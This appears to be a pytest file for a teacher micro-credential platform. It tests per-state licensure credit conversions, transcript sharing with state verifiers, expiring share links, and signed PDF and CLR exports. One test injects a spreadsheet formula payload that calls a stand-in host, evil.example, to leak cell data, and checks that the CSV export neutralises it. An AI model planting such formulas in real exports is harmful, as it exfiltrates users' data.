"""Licensure transcripts: per-state conversions, sharing, links, and signed exports,
built from a badge issued through the real review workflow."""

# The expected texts are what a verifier reads, with the multiplication sign.
# ruff: noqa: RUF001

from __future__ import annotations

import csv
import io
import itertools
import json
from datetime import timedelta
from decimal import Decimal
from pathlib import Path

import pytest
from flask import Flask
from flask.testing import FlaskClient
from sqlalchemy import select

from accounts.models import OrganizationKind, Role, User
from accounts.services import get_or_create_organization
from badges import certificates, dataintegrity, issuers, pdf, services, transcripts
from badges.transcript_models import TranscriptLink
from badges.transcript_views import register
from badges.verification import verify_credential
from core.db_types import utcnow
from core.extensions import db
from tests.badges.test_issuance import issued  # noqa: F401  (fixture)
from tests.conftest import csrf_from, make_user, sign_in
from tests.reviews.workflow import TEACHER_EMAIL, TEACHER_NAME

LICENCE = "TN-100234"
_ADDRESSES = itertools.count(1)


@pytest.fixture
def app(app: Flask) -> Flask:
    # Until badges.init_app calls register(app) itself; register() is idempotent.
    register(app)
    return app


def _teacher() -> User:
    user = db.session.scalar(select(User).where(User.email == TEACHER_EMAIL))
    assert user is not None
    return user


def _set_teacher(app: Flask, **values: object) -> int:
    with app.app_context():
        teacher = _teacher()
        for name, value in values.items():
            setattr(teacher, name, value)
        db.session.commit()
        return teacher.id


def _signed_in(app: Flask, email: str, *roles: Role, **fields: object) -> FlaskClient:
    make_user(app, email, *roles, **fields)
    # Its own address: sign-ins are rate limited per address.
    client = app.test_client()
    client.environ_base["REMOTE_ADDR"] = f"10.9.0.{next(_ADDRESSES)}"
    assert sign_in(client, email).status_code == 302
    return client


def _verifier(app: Flask, email: str, state: str | None) -> FlaskClient:
    with app.app_context():
        org = get_or_create_organization(
            f"{state or 'No'} state agency", OrganizationKind.STATE_AGENCY, state
        )
        db.session.commit()
        org_id = org.id
    return _signed_in(app, email, Role.STATE_VERIFIER, organization_id=org_id)


def _share(teacher: FlaskClient, shared: bool = True) -> None:
    token = csrf_from(teacher, "/portfolio/transcript")
    response = teacher.post(
        "/portfolio/transcript/share",
        data={"csrf_token": token, "shared": "true" if shared else "false"},
    )
    assert response.status_code == 302


def _lookup(client: FlaskClient, state: str = "TN", number: str = LICENCE) -> int:
    return client.get(
        "/api/v1/transcripts", query_string={"license_number": number, "state": state}
    ).status_code


# --- the rules ------------------------------------------------------------------------


def test_the_shipped_rules_convert_as_documented() -> None:
    rules = transcripts.read_rules()
    assert set(rules) >= {"TN", "DE", "AR", "MS"}
    hours = Decimal(15)
    tn, de, ar, ms = (rules[state] for state in ("TN", "DE", "AR", "MS"))
    assert tn.credit(hours, "micro_credential") == 6
    assert tn.conversion(hours, "micro_credential") == "1 micro-credential = 6 PDPs"
    assert tn.alternative(hours, "micro_credential") == "By time: 15 PD hours × 1 = 15 PDPs"
    assert de.credit(hours, "micro_credential") == 15
    assert de.conversion(hours, "micro_credential") == "15 PD hours × 1 = 15 clock hours"
    assert ar.conversion(hours, "micro_credential") == "15 PD hours × 1 = 15 PD hours"
    assert ms.credit(hours, "micro_credential") == Decimal("1.5")
    assert ms.rule_text == "10 PD hours = 1 CEU"
    assert ms.conversion(hours, "micro_credential") == "15 PD hours × 0.1 = 1.5 CEUs"
    # A stack is never counted on top of its members.
    assert tn.credit(Decimal(0), "stack") == 0 and de.credit(Decimal(0), "stack") == 0
    # DOMAIN.md §7 marks DE, AR and MS as unconfirmed: the rules say so.
    assert not tn.uncertain and all(r.uncertain for r in (de, ar, ms))
    assert all(r.note.startswith("⚠") for r in (de, ar, ms))
    assert all(r.source and r.credit_granting_body for r in rules.values())


@pytest.mark.parametrize(
    ("rule", "message"),
    [
        ("unit_plural: X\n", "per_credential"),
        ("unit_plural: X\n    per_credential: 6\n    per_hour: 1\n", "basis"),
        ("unit_plural: X\n    per_hour: 0\n", "per_hour"),
        ("unit_plural: X\n    per_hour: 1\n    basis: credential\n", "basis"),
    ],
)
def test_bad_rules_are_refused(tmp_path: Path, rule: str, message: str) -> None:
    path = tmp_path / "rules.yaml"
    path.write_text(
        "jurisdictions:\n  - state: TN\n    name: T\n    unit: X\n    credit_granting_body: D\n"
        "    uncertain: false\n    note: N\n    source: S\n    " + rule,
        encoding="utf-8",
    )
    with pytest.raises(transcripts.CreditRulesError, match=message):
        transcripts.read_rules(path)


def test_one_rule_per_state_and_the_cap_per_cycle(tmp_path: Path) -> None:
    entry = (
        "  - state: TN\n    name: T\n    unit: PDP\n    unit_plural: PDPs\n"
        "    per_credential: 6\n    cap_per_cycle: 10\n    credit_granting_body: D\n"
        "    uncertain: false\n    note: N\n    source: S\n"
    )
    path = tmp_path / "rules.yaml"
    path.write_text("jurisdictions:\n" + entry + entry, encoding="utf-8")
    with pytest.raises(transcripts.CreditRulesError, match="One rule per state"):
        transcripts.read_rules(path)
    path.write_text("jurisdictions:\n" + entry, encoding="utf-8")
    rule = transcripts.read_rules(path)["TN"]
    line = transcripts.TranscriptLine(
        badge_id="b",
        title="t",
        code="c",
        kind="micro_credential",
        version="1",
        issued_on=utcnow().date(),
        expires_on=None,
        hours=Decimal(15),
        credit=Decimal(6),
        conversion=rule.conversion(Decimal(15), "micro_credential"),
        alternative=None,
        verification_url="u",
        status="valid",
        reason="",
    )
    transcript = transcripts.Transcript(
        teacher_id=1,
        name="n",
        license_number="1",
        license_state="TN",
        rule=rule,
        issuer_name="i",
        generated_at=utcnow(),
        lines=[line, line],
    )
    assert transcript.total_credit == 12 and transcript.counted_credit == 10
    assert transcript.cap_applied and transcript.totals_text == "30 PD hours; 10 PDPs"


# --- per state, on a real badge -------------------------------------------------------


@pytest.mark.parametrize(
    ("state", "total", "conversion"),
    [
        ("TN", 6, "1 micro-credential = 6 PDPs"),
        ("DE", 15, "15 PD hours × 1 = 15 clock hours"),
        ("AR", 15, "15 PD hours × 1 = 15 PD hours"),
        ("MS", 1.5, "15 PD hours × 0.1 = 1.5 CEUs"),
    ],
)
def test_conversions_per_state_match_the_rules(
    issued,  # noqa: F811
    state: str,
    total: float,
    conversion: str,
) -> None:
    app, teacher, badge = issued
    _set_teacher(app, license_state=state, license_number=LICENCE)
    body = teacher.get("/api/v1/transcripts/mine").get_json()
    assert body["name"] == TEACHER_NAME and body["license_number"] == LICENCE
    assert body["rule"]["state"] == state
    assert body["total_hours"] == 15 and body["total_credit"] == total
    assert body["counted_credit"] == total and body["excluded"] == []
    (line,) = body["badges"]
    assert line["badge_id"] == badge.id and line["status"] == "valid"
    assert line["code"] == "UDL-05" and line["hours"] == 15 and line["credit"] == total
    assert line["conversion"] == conversion
    assert line["verification_url"] == f"http://microcred.test/badges/{badge.id}"
    page = teacher.get("/portfolio/transcript")
    assert page.status_code == 200 and page.headers["Cache-Control"] == "private, no-store"
    text = page.get_data(as_text=True)
    assert conversion in text and TEACHER_NAME in text and LICENCE in text
    assert ("⚠ This rule is not confirmed" in text) is (state != "TN")


def test_without_a_licence_state_hours_are_shown_as_issued(issued) -> None:  # noqa: F811
    _app, teacher, _badge = issued
    body = teacher.get("/api/v1/transcripts/mine").get_json()
    assert body["rule"] is None and body["total_hours"] == 15 and body["total_credit"] is None
    text = teacher.get("/portfolio/transcript").get_data(as_text=True)
    assert "No licence state is recorded" in text
    token = csrf_from(teacher, "/portfolio/transcript")
    shared = teacher.post(
        "/portfolio/transcript/share", data={"csrf_token": token}, follow_redirects=True
    )
    assert "Add your licence number and state" in shared.get_data(as_text=True)


# --- sharing with the state -------------------------------------------------------------


def test_sharing_with_the_state_controls_the_lookup(issued) -> None:  # noqa: F811
    app, teacher, badge = issued
    teacher_id = _set_teacher(app, license_state="TN", license_number=LICENCE)
    verifier = _verifier(app, "officer@tn.example.gov", "TN")
    assert _lookup(verifier) == 404
    assert verifier.get(f"/verifier/transcripts/{teacher_id}").status_code == 404
    page = verifier.get(
        "/verifier/transcripts", query_string={"license_number": LICENCE, "state": "TN"}
    )
    assert page.status_code == 404 and "No shared transcript matches" in page.get_data(as_text=True)

    _share(teacher)
    found = verifier.get(
        "/api/v1/transcripts", query_string={"license_number": "tn-100234 ", "state": "tn"}
    )
    assert found.status_code == 200
    (transcript,) = found.get_json()
    assert transcript["name"] == TEACHER_NAME and transcript["license_number"] == LICENCE
    assert transcript["badges"][0]["badge_id"] == badge.id and transcript["total_credit"] == 6
    redirect = verifier.get(
        "/verifier/transcripts", query_string={"license_number": LICENCE, "state": "TN"}
    )
    assert redirect.status_code == 302
    assert redirect.headers["Location"].endswith(f"/verifier/transcripts/{teacher_id}")
    shown = verifier.get(f"/verifier/transcripts/{teacher_id}").get_data(as_text=True)
    assert TEACHER_NAME in shown and "1 micro-credential = 6 PDPs" in shown
    assert "Share with your licensing state" not in shown  # the educator's controls
    assert verifier.get(f"/api/v1/transcripts/{teacher_id}").status_code == 200

    _share(teacher, shared=False)
    assert _lookup(verifier) == 404
    assert verifier.get(f"/verifier/transcripts/{teacher_id}").status_code == 404
    assert verifier.get(f"/verifier/transcripts/{teacher_id}/export/csv").status_code == 404
    # Moving to another state ends what the old state's verifiers see.
    _share(teacher)
    assert _lookup(verifier) == 200
    _set_teacher(app, license_state="DE")
    assert _lookup(verifier) == 404 and _lookup(verifier, "DE") == 404


def test_no_one_else_learns_the_educator_exists(issued) -> None:  # noqa: F811
    app, teacher, _badge = issued
    teacher_id = _set_teacher(app, license_state="TN", license_number=LICENCE)
    _share(teacher)
    other_state = _verifier(app, "officer@de.example.gov", "DE")
    assert _lookup(other_state) == 404 and _lookup(other_state, "DE") == 404
    for path in (
        f"/verifier/transcripts/{teacher_id}",
        f"/verifier/transcripts/{teacher_id}/export/pdf",
        f"/api/v1/transcripts/{teacher_id}",
        f"/api/v1/transcripts/{teacher_id}?format=clr",
    ):
        assert other_state.get(path).status_code == 404, path
    stateless = _verifier(app, "officer@nowhere.example.gov", None)
    assert _lookup(stateless) == 404
    assert stateless.get(f"/api/v1/transcripts/{teacher_id}").status_code == 404
    assert "not linked to a state agency" in stateless.get("/verifier/transcripts").get_data(
        as_text=True
    )
    another = _signed_in(app, "another@example.org", Role.TEACHER)
    assert another.get(f"/api/v1/transcripts/{teacher_id}").status_code == 404
    assert another.get(f"/verifier/transcripts/{teacher_id}").status_code == 404
    anonymous = app.test_client()
    assert anonymous.get(f"/api/v1/transcripts/{teacher_id}").status_code == 401
    assert _lookup(anonymous) == 401
    assert anonymous.get("/portfolio/transcript").status_code == 302
    assert anonymous.get(f"/verifier/transcripts/{teacher_id}").status_code == 302
    # Administrators see every educator, shared or not.
    _share(teacher, shared=False)
    admin = _signed_in(app, "admin@example.org", Role.PROGRAM_ADMIN)
    assert admin.get(f"/verifier/transcripts/{teacher_id}").status_code == 200
    assert _lookup(admin) == 200


# --- share links --------------------------------------------------------------------------


def test_share_links_open_until_revoked_or_expired(issued) -> None:  # noqa: F811
    app, teacher, badge = issued
    _set_teacher(app, license_state="DE", license_number="DE-42")
    headers = {"X-CSRFToken": csrf_from(teacher, "/portfolio/transcript")}
    created = teacher.post(
        "/api/v1/transcripts/mine/links",
        json={"expires_in_days": 30, "label": "District PD office"},
        headers=headers,
    )
    assert created.status_code == 201
    link = created.get_json()
    token = link["token"]
    assert link["url"] == f"http://microcred.test/transcripts/shared/{token}"
    with app.app_context():
        row = db.session.get(TranscriptLink, link["id"])
        assert row.token_hash != token and token not in row.token_hash

    anonymous = app.test_client()
    page = anonymous.get(f"/transcripts/shared/{token}")
    assert page.status_code == 200 and page.headers["Referrer-Policy"] == "no-referrer"
    assert TEACHER_NAME in page.get_data(as_text=True)
    assert "15 PD hours × 1 = 15 clock hours" in page.get_data(as_text=True)
    body = anonymous.get(f"/api/v1/transcripts/shared/{token}").get_json()
    assert body["badges"][0]["badge_id"] == badge.id and body["license_number"] == "DE-42"
    csv_export = anonymous.get(f"/transcripts/shared/{token}/export/csv")
    assert csv_export.status_code == 200 and badge.id in csv_export.get_data(as_text=True)
    # A verifier can paste the link into the lookup page.
    verifier = _verifier(app, "officer@de.example.gov", "DE")
    opened = verifier.get("/verifier/transcripts", query_string={"link": link["url"]})
    assert opened.headers["Location"].endswith(f"/transcripts/shared/{token}")

    revoked = teacher.delete(f"/api/v1/transcripts/mine/links/{link['id']}", headers=headers)
    assert revoked.status_code == 200 and revoked.get_json()["revoked_at"]
    assert anonymous.get(f"/transcripts/shared/{token}").status_code == 404
    assert anonymous.get(f"/api/v1/transcripts/shared/{token}").status_code == 404
    assert anonymous.get(f"/transcripts/shared/{token}/export/pdf").status_code == 404

    form = teacher.post(
        "/portfolio/transcript/links",
        data={
            "csrf_token": csrf_from(teacher, "/portfolio/transcript"),
            "expires_in_days": "never",
        },
    )
    text = form.get_data(as_text=True)
    assert form.status_code == 200 and "copy it now" in text
    fresh = text.split('value="http://microcred.test/transcripts/shared/', 1)[1].split('"')[0]
    assert anonymous.get(f"/transcripts/shared/{fresh}").status_code == 200
    with app.app_context():
        row = db.session.scalar(select(TranscriptLink).order_by(TranscriptLink.id.desc()))
        assert row.expires_at is None
        row.expires_at = utcnow() - timedelta(minutes=1)
        db.session.commit()
    assert anonymous.get(f"/transcripts/shared/{fresh}").status_code == 404
    assert anonymous.get("/transcripts/shared/not-a-real-token-at-all-000").status_code == 404
    assert anonymous.get("/api/v1/transcripts/shared/" + "x" * 200).status_code == 404
    # Someone else's link cannot be revoked by id.
    another = _signed_in(app, "another@example.org", Role.TEACHER)
    other_headers = {"X-CSRFToken": csrf_from(another, "/portfolio/transcript")}
    assert (
        another.delete(f"/api/v1/transcripts/mine/links/{link['id']}", headers=other_headers)
    ).status_code == 404


# --- validity ---------------------------------------------------------------------------


def test_a_revoked_badge_is_listed_apart_and_not_counted(issued) -> None:  # noqa: F811
    app, teacher, badge = issued
    _set_teacher(app, license_state="TN", license_number=LICENCE)
    make_user(app, "admin@example.org", Role.PROGRAM_ADMIN)
    with app.test_request_context():
        admin = db.session.scalar(select(User).where(User.email == "admin@example.org"))
        services.revoke(admin, services.get_badge(badge.id), "Evidence was not the educator's own")
        db.session.commit()
    body = teacher.get("/api/v1/transcripts/mine").get_json()
    assert body["badges"] == [] and body["total_hours"] == 0 and body["total_credit"] == 0
    (excluded,) = body["excluded"]
    assert excluded["badge_id"] == badge.id and excluded["status"] == "revoked"
    assert excluded["rejection_code"] == "REVOKED" and "revoked" in excluded["reason"]
    assert excluded["credit"] == 6  # what it would have been: never summed
    text = teacher.get("/portfolio/transcript").get_data(as_text=True)
    assert "Not counted: revoked, expired or not valid" in text and "REVOKED" in text
    rows = list(csv.DictReader(io.StringIO(teacher.get("/portfolio/transcript/export/csv").text)))
    assert rows[0]["status"] == "revoked" and rows[0]["credit"] == ""
    assert teacher.get("/api/v1/transcripts/mine?format=clr").status_code == 422


def test_a_badge_not_yet_valid_or_expired_is_not_counted(issued) -> None:  # noqa: F811
    app, _teacher_client, _badge = issued
    with app.test_request_context():
        teacher = _teacher()
        teacher.license_state = "DE"
        transcript = transcripts.build_transcript(teacher, now=utcnow() - timedelta(days=2))
    assert transcript.lines == [] and transcript.total_credit == 0
    (line,) = transcript.excluded
    assert line.status == "expired" and line.rejection_code == "EXPIRED"


# --- exports -------------------------------------------------------------------------------


def test_csv_export_neutralises_formulas(issued) -> None:  # noqa: F811
    app, teacher, badge = issued
    _set_teacher(
        app,
        name='=HYPERLINK("http://evil.example/?x="&A1,"Click")',
        license_state="TN",
        license_number="+1-TN-5",
    )
    response = teacher.get("/portfolio/transcript/export/csv")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert response.headers["Content-Disposition"].startswith("attachment;")
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True))))
    header, (row,) = rows[0], rows[1:]
    record = dict(zip(header, row, strict=True))
    assert record["educator"] == "'" + '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    assert record["license_number"] == "'+1-TN-5"
    assert record["badge_id"] == badge.id and record["credit"] == "6"
    assert record["credit_unit"] == "PDPs" and record["conversion"] == "1 micro-credential = 6 PDPs"
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row)


def test_the_pdf_is_signed_by_the_issuer_and_verifies(issued) -> None:  # noqa: F811
    app, teacher, _badge = issued
    _set_teacher(app, license_state="MS", license_number="MS-77")
    response = teacher.get("/portfolio/transcript/export/pdf")
    assert response.status_code == 200 and response.mimetype == "application/pdf"
    data = response.data
    with app.app_context():
        roots = certificates.trust_roots()
        check = pdf.validate_pdf(data, trust_roots=roots)
        assert check.ok, check.problems
        assert check.signer_name and check.reason.startswith("Transcript of the badges")
        tampered = bytearray(data)
        tampered[len(tampered) // 3] ^= 0x01
        assert not pdf.validate_pdf(bytes(tampered), trust_roots=roots).ok
        assert not pdf.validate_pdf(data + b"\n% appended\n", trust_roots=roots).ok


def test_the_clr_carries_the_badges_as_issued_and_verifies(issued) -> None:  # noqa: F811
    app, teacher, badge = issued
    _set_teacher(app, license_state="TN", license_number=LICENCE)
    response = teacher.get("/portfolio/transcript/export/clr")
    assert response.status_code == 200 and response.mimetype == "application/ld+json"
    clr = json.loads(response.data)
    assert clr["type"] == ["VerifiableCredential", "ClrCredential"]
    assert transcripts.CLR_CONTEXT in clr["@context"]
    subject = clr["credentialSubject"]
    assert subject["type"] == ["ClrSubject"]
    assert subject["verifiableCredential"] == [json.loads(badge.credential_json)]
    identities = {entry["identityType"]: entry for entry in subject["identifier"]}
    assert identities["name"]["identityHash"] == TEACHER_NAME
    assert identities["ext:licenseNumber"]["identityHash"] == LICENCE
    assert identities["ext:licenseState"]["identityHash"] == "TN"
    assert identities["emailAddress"]["hashed"] is True
    assert "1 micro-credential = 6 PDPs" in clr["description"]

    def resolve(method: str) -> object:
        key, _reason = issuers.resolve_key(method)
        return issuers.public_key(key) if key else None

    with app.test_request_context():
        assert dataintegrity.verify(clr, resolve).verified
        assert verify_credential(subject["verifiableCredential"][0]).valid
        forged = json.loads(response.data)
        forged["credentialSubject"]["identifier"][1]["identityHash"] = "Someone Else"
        assert not dataintegrity.verify(forged, resolve).verified


def test_verifiers_export_through_the_api(issued) -> None:  # noqa: F811
    app, teacher, badge = issued
    teacher_id = _set_teacher(app, license_state="TN", license_number=LICENCE)
    _share(teacher)
    verifier = _verifier(app, "officer@tn.example.gov", "TN")
    query = {"license_number": LICENCE, "state": "TN", "format": "csv"}
    exported = verifier.get("/api/v1/transcripts", query_string=query)
    assert exported.status_code == 200 and badge.id in exported.get_data(as_text=True)
    clr = verifier.get(f"/api/v1/transcripts/{teacher_id}?format=clr")
    assert clr.status_code == 200 and json.loads(clr.data)["type"][1] == "ClrCredential"
    assert verifier.get(f"/api/v1/transcripts/{teacher_id}?format=xml").status_code == 422
    assert verifier.get(f"/verifier/transcripts/{teacher_id}/export/xml").status_code == 404


def test_an_independent_verifier_accepts_the_clr(issued, tmp_path: Path) -> None:  # noqa: F811
    from tests.badges.test_dataintegrity import INTEROP_DIR, ensure_js_verifier, js_verdict

    app, teacher, _badge = issued
    ensure_js_verifier()
    clr = json.loads(teacher.get("/portfolio/transcript/export/clr").data)
    with app.test_request_context():
        key, _reason = issuers.resolve_key(clr["proof"]["verificationMethod"])
        assert key is not None
        public_multikey = key.public_multikey
    status, verdict = js_verdict(INTEROP_DIR / "verify.mjs", tmp_path, clr, public_multikey)
    assert verdict == {"verified": True, "errors": []} and status == 0
    clr["credentialSubject"]["verifiableCredential"][0]["credentialSubject"]["creditsEarned"] = 60
    status, verdict = js_verdict(INTEROP_DIR / "verify.mjs", tmp_path, clr, public_multikey)
    assert verdict["verified"] is False and status == 1
